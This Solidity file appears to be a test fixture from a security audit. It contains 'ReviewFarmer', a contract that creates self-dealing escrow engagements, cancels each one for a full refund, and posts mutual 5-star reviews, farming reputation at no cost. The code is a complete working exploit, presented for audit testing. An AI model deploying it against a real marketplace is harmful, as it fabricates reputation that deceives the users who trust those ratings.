// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

interface IFarmEscrow {
    function createEngagement(
        address provider,
        address token,
        uint256[] calldata amounts,
        uint64[] calldata dueDates,
        uint32 reviewWindow,
        address arbiter,
        bytes32 termsDigest
    ) external payable returns (uint256 id);
    function acceptEngagement(uint256 id) external;
    function cancel(uint256 id) external;
    function withdraw(address token) external;
}

interface IFarmReputation {
    function review(uint256 engagementId, uint8 rating, bytes32 commentDigest) external;
}

/// @notice The provider side of a farming pair: accepts, declines and reviews when told to.
contract FarmerSide {
    function act(address target, bytes calldata data) external {
        (bool ok, bytes memory out) = target.call(data);
        if (!ok) {
            assembly {
                revert(add(out, 32), mload(out))
            }
        }
    }

    receive() external payable {}
}

/// @notice The audit's farming contract: mutual 5-star pairs in one transaction, each from an engagement
///         its own provider side cancels at once (full refund, no fee). Test-only.
contract ReviewFarmer {
    FarmerSide public immutable side = new FarmerSide();

    /// @notice Creates `pairs` engagements with its own provider side, refunds each and has both sides review.
    function farm(IFarmEscrow escrow, IFarmReputation reputation, address arbiter, uint256 pairs) external payable {
        uint256 amount = msg.value / pairs;
        uint256[] memory amounts = new uint256[](1);
        amounts[0] = amount;
        uint64[] memory due = new uint64[](1);
        due[0] = uint64(block.timestamp + 1 days);
        for (uint256 i; i < pairs; ++i) {
            uint256 id = escrow.createEngagement{value: amount}(address(side), address(0), amounts, due, 1 hours, arbiter, 0);
            side.act(address(escrow), abi.encodeCall(IFarmEscrow.acceptEngagement, (id)));
            side.act(address(escrow), abi.encodeCall(IFarmEscrow.cancel, (id)));
            escrow.withdraw(address(0));
            reputation.review(id, 5, 0);
            side.act(address(reputation), abi.encodeCall(IFarmReputation.review, (id, 5, bytes32(0))));
        }
    }

    receive() external payable {}
}
